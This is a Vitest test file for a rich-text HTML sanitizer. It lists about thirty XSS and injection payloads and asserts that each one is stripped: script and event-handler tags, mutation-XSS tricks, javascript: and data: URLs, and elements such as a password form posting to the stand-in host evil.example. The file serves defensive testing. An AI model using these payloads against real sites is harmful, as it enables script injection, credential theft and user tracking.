import { expect, test } from 'vitest'
import { cleanRichText } from '#components/rich-text/clean.ts'

/** Lets the app's own paths and https pass, as the shell's check does. */
const checkLink = (href: string) =>
  /^#?\/[a-z]/.test(href) ? `#${href.replace('#', '')}` : href.startsWith('https://') ? href : undefined

const cleaned = (html: string) => {
  const place = document.createElement('div')
  place.append(cleanRichText(html, checkLink))
  return place
}
const clean = (html: string) => cleaned(html).innerHTML

test('what RichText may hold stays', () => {
  const html =
    '<h2>一</h2><h3>二</h3><h4>三</h4><p>文字 <b>粗</b> <i>斜</i><br></p><ul><li>甲</li></ul><ol><li>乙</li></ol><blockquote>引</blockquote><hr>'
  expect(clean(html)).toBe(html)
})

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.example">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p class="page" id="root" data-page="/login">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa&#9;ScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="http://evil.example" onclick="alert(1)" ping="//evil.example">x</a>',
  '<video src="https://evil.example/a.mp4" autoplay onplay=alert(1) poster="//evil.example/p.png"></video>',
  '<img src="https://evil.example/pixel.gif" srcset="//evil.example/2.gif 2x">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="../../secret">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p><a href="/home"><b></a><script>alert(1)</script>',
]

const allowed = new Set([
  'p',
  'h2',
  'h3',
  'h4',
  'ul',
  'ol',
  'li',
  'blockquote',
  'b',
  'i',
  'a',
  'img',
  'video',
  'br',
  'hr',
])

test.each(attacks)('%s comes out harmless', (html) => {
  const place = cleaned(html)
  for (const node of place.querySelectorAll('*')) {
    expect(allowed).toContain(node.localName)
    for (const { name, value } of node.attributes) {
      expect(['href', 'rel', 'target', 'alt', 'data-path'], `${node.localName} ${name}`).toContain(name)
      if (name === 'href') expect(value).toMatch(/^(#\/|https:\/\/)/)
      if (name === 'data-path') expect(value).toMatch(/^[\w-][\w./-]*$/)
    }
  }
  expect(place.innerHTML).not.toMatch(/evil\.example|alert\(1\)(?!<\/p>)/)
})

test('links of the app stay inside; those outside open apart and learn nothing', () => {
  expect(clean('<a href="/player?id=7">x</a>')).toBe('<a href="#/player?id=7">x</a>')
  expect(clean('<a href="#/my">x</a>')).toBe('<a href="#/my">x</a>')
  expect(clean('<a href="https://news.example/1">x</a>')).toBe(
    '<a href="https://news.example/1" rel="noopener noreferrer" target="_blank">x</a>',
  )
  expect(clean('<a href="mailto:a@b.example">x</a>')).toBe('<a>x</a>')
})

test('pictures and films keep their path and fetch nothing', () => {
  expect(clean('<img src="notices/a-1.webp" alt="灯塔" onload=x>')).toBe(
    '<img alt="灯塔" data-path="notices/a-1.webp">',
  )
  expect(clean('<video src="films/b/index.m3u8"></video>')).toBe('<video data-path="films/b/index.m3u8"></video>')
})

test('cleaning twice is the same as once, and one text does not change the next', () => {
  const once = clean('<p>a<img src="x/y.webp"><a href="/home">h</a></p>')
  expect(clean(once)).toBe('<p>a<a href="#/home">h</a></p>')
  expect(clean('<p>b</p>')).toBe('<p>b</p>')
})
